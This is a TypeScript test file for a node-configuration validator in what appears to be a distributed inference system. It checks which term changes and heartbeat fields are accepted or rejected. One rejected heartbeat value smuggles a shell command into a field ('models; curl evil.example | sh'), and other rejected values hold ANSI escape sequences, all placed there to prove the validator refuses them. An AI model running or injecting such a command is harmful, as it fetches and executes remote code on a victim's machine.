import { describe, expect, test } from "bun:test";
import { commandArgsSchema, wrongArgs } from "./commands.ts";
import { parseNodeMessage } from "./frames.ts";
import {
  allowingCommand,
  MAX_CHANGED_PATTERNS,
  type NodeTerms,
  nodeTermsSchema,
  type TermsChange,
  termsChangeSchema,
} from "./terms.ts";

const PRICE = { input: 1, output: 2 };
const patterns = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`m${i}`, PRICE]));
const TOLD: NodeTerms = {
  ...{ slots: 0, price_input: 0, price_output: 0, prices: {}, schedule: [], idle_only: false },
  ...{ idle_gpu_percent: 20, idle_cpu_percent: 50, idle_busy_s: 10, idle_resume_s: 120, idle_drain_s: 30 },
  ...{ fixed: [], allows: ["models"] },
};

describe("a change of terms", () => {
  test.each<TermsChange>([
    { slots: 4 },
    { price_input: 1_000_000_000_000, price_output: 0 },
    { prices: { "llama3*": PRICE } },
    { prices: {} },
    { schedule: ["mon-fri 18:00-08:00", "sat,sun"] },
    { schedule: [], idle_only: true },
  ])("may be %j", (change) => {
    expect(termsChangeSchema.safeParse(change).data).toEqual(change);
  });

  test.each([
    {},
    { slots: -1 },
    { slots: 4097 },
    { slots: 1.5 },
    { slots: "4" },
    { slots: null },
    { price_input: 1_000_000_000_001 },
    { price_output: -1 },
    { prices: { "a*b": PRICE } },
    { prices: { "a\nb*": PRICE } },
    { prices: { "\u001b[2J": PRICE } },
    { prices: { m: { input: 1 } } },
    { prices: { ["x".repeat(258)]: PRICE } },
    { prices: patterns(MAX_CHANGED_PATTERNS + 1) },
    { schedule: ["whenever"] },
    { schedule: ["mon\n18:00-08:00"] },
    { schedule: [`mon${" ".repeat(200)}18:00-08:00`] },
    { schedule: Array.from({ length: 65 }, () => "sat") },
    { idle_only: "yes" },
    // What guards the node from its coordinators is none of their business.
    { allow_commands: ["configure"] },
    { slots: 1, model_disk_gib: 1 },
    { join_token: "infjoin_x" },
    { backends: [] },
    { region: "eu" },
  ])("may not be %j", (change) => {
    expect(termsChangeSchema.safeParse(change).success).toBe(false);
    expect(commandArgsSchema.safeParse({ terms: change }).success).toBe(false);
  });

  test("belongs to `configure`, and to nothing else", () => {
    expect(wrongArgs("configure", { terms: { slots: 1 } })).toBeNull();
    expect(wrongArgs("configure", {})).toBe("configure needs terms");
    expect(wrongArgs("configure", { terms: { slots: 1 }, model: "m" })).toBe("configure takes no model");
    expect(wrongArgs("drain", { terms: { slots: 1 } })).toBe("drain takes no terms");
  });
});

describe("what a node tells", () => {
  const heartbeat = (terms?: unknown) =>
    parseNodeMessage(JSON.stringify([{ type: "heartbeat", status: "available", running: 0, terms }]));

  test("is taken, and may be left out", () => {
    expect(heartbeat(TOLD)).toMatchObject({ ok: true, value: [{ terms: TOLD }] });
    expect(heartbeat()).toMatchObject({ ok: true });
  });

  test("may have spans and terms that this program does not know", () => {
    expect(nodeTermsSchema.parse({ ...TOLD, schedule: ["every full moon"], battery_percent: 20 })).toEqual({
      ...TOLD,
      schedule: ["every full moon"],
    });
  });

  test.each([
    { slots: 9999 },
    { schedule: ["x".repeat(129)] },
    { prices: patterns(1025) },
    { allows: ["models; curl evil.example | sh"] },
    { fixed: [`slots\u001b[2J`] },
  ])("is refused where it is %j", (wrong) => {
    expect(heartbeat({ ...TOLD, ...wrong }).ok).toBe(false);
  });

  test("says what is to be run on its machine to let coordinators configure it", () => {
    expect(allowingCommand(["models", "drain"], "configure")).toBe(
      "infernet settings set node.allow_commands models,drain,configure",
    );
  });
});
